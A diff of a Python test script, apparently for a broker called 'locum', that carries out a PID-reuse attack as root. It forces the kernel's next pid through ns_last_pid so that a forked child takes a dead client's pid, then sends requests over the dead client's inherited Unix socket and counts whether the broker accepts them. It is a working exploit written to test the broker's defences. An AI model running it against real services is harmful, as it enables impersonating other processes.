@@ -1,77 +1,78 @@
-"""An attacker that inherits a dead process's connection and forces its pid: `pid_reuse.py ROUNDS REQUEST`.
+"""Speak on a connection whose owner is gone, from a process that has got the owner's number. Root, to force the number.
 
-Each round: A asks for a lease over a connection that its parent keeps, and dies; B is started until it has A's pid, and
-redeems A's lease over that very connection. Prints how often B had the pid, and what the broker said. As root, on Linux.
+pid_reuse.py SOCKET TRIES     prints {"forced": …, "accepted": …, "refused": …} as JSON
+
 """
-
-from __future__ import annotations
 
 import json
 import os
 import socket
+import struct
 import sys
-from collections import Counter
 from pathlib import Path
 
-from locum.broker import wire
-from locum.broker.client import BrokerClient
-from locum.errors import LocumError
-from locum.paths import user_paths
-
-LAST_PID = Path("/proc/sys/kernel/ns_last_pid")
-TRIES = 200
+LAST = Path("/proc/sys/kernel/ns_last_pid")
+TEXT = json.dumps({"id": 7, "method": "status", "params": {}}).encode()
 
 
-def main() -> None:
-    rounds = int(sys.argv[1])
-    request = wire.LeaseRequest.from_wire(json.loads(sys.argv[2]))
-    said: Counter[str] = Counter()
-    forced = alive = 0
-    for _ in range(rounds):
-        connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-        ours, theirs = os.pipe()
-        first = os.fork()
-        if first == 0:
-            connection.connect(str(user_paths().socket))
-            client = BrokerClient(connection)
-            lease = client.request_lease(request)["id"]
-            worked = bool(client.redeem(lease))  # the lease is good: what B gets is about who B is
-            os.write(theirs, f"{lease} {worked:d}".encode())
+def ask(sock):
+    """Return "accepted", or "refused"."""
+    try:
+        sock.settimeout(10)
+        sock.sendall(struct.pack(">II", len(TEXT), 0) + TEXT)
+        answer = b""
+        while part := sock.recv(65536):
+            answer += part
+            if b'"result"' in answer:
+                return "accepted"
+            if b'"error"' in answer:
+                return "refused"
+    except OSError:
+        pass
+    return "refused"
+
+
+def heir(sock, wanted, report):
+    for _ in range(50):
+        LAST.write_text(str(wanted - 1))
+        child = os.fork()
+        if child == 0:
+            if os.getpid() == wanted:
+                os.write(report, ask(sock).encode() + b"\n")
             os._exit(0)
-        os.close(theirs)
-        lease, worked = os.read(ours, 100).decode().split()
-        os.close(ours)
-        os.waitpid(first, 0)
-        alive += int(worked)
-        answer = _with_pid(first, connection, lease)
-        forced += answer is not None
-        said[answer or "not forced"] += 1
-        connection.close()
-    print(json.dumps({"forced": forced, "worked_for_its_owner": alive, "said": said}))
+        os.waitpid(child, 0)
+        if child == wanted:
+            return
+    os.write(report, b"not forced\n")
 
 
-def _with_pid(pid: int, connection: socket.socket, lease: str) -> str | None:
-    """Fork until a child has this pid; return what the broker told it, None when none had it."""
-    for _ in range(TRIES):
-        LAST_PID.write_text(str(pid - 1))
-        ours, theirs = os.pipe()
-        second = os.fork()
-        if second == 0:
-            if os.getpid() == pid:
-                try:
-                    BrokerClient(connection).redeem(lease)
-                    os.write(theirs, b"accepted")
-                except LocumError as error:
-                    os.write(theirs, error.code.encode())
-            os._exit(0)
-        os.close(theirs)
-        answer = os.read(ours, 100).decode()
-        os.close(ours)
-        os.waitpid(second, 0)
-        if answer:
-            return answer
-    return None
+def attempt(address):
+    reading, report = os.pipe()
+    owner = os.fork()
+    if owner == 0:
+        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        sock.connect(address)
+        mine, gone = os.getpid(), os.pipe()
+        if os.fork() == 0:
+            os.close(gone[1])
+            os.read(gone[0], 1)  # until the owner has ended
+            while Path(f"/proc/{mine}").exists():
+                pass  # and was reaped
+            heir(sock, mine, report)
+        os._exit(0)
+    os.close(report)
+    os.waitpid(owner, 0)
+    said = b""
+    while part := os.read(reading, 100):
+        said += part
+    os.close(reading)
+    return said.decode().strip()
 
 
-if __name__ == "__main__":
-    main()
+def main():
+    said = [attempt(sys.argv[1]) for _ in range(int(sys.argv[2]))]
+    accepted, refused = said.count("accepted"), said.count("refused")
+    print(json.dumps({"forced": accepted + refused, "accepted": accepted, "refused": refused}))
+
+
+main()
